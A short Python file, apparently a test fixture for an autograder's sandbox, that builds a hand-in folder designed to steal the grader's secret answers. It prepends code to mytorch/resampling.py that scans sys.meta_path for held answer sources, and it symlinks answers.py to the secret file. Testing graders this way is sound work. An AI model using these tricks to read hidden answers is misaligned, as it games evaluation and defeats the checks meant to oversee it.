"""Hands in a folder with a link to the secret."""

CONTROL = "inside"
SHOW = """
import os, sys

def attack(A):
    for finder in sys.meta_path:
        held = getattr(getattr(finder, "lookup", None), "sources", {})
        print(held.get("mytorch/answers.py"))
    return open(os.path.join(os.path.dirname(__file__), "answers.py")).read()
"""


def pack(handin, target):
    code = handin / "mytorch/resampling.py"
    code.write_text(SHOW + code.read_text())
    (handin / "mytorch/answers.py").symlink_to(target["secret"])
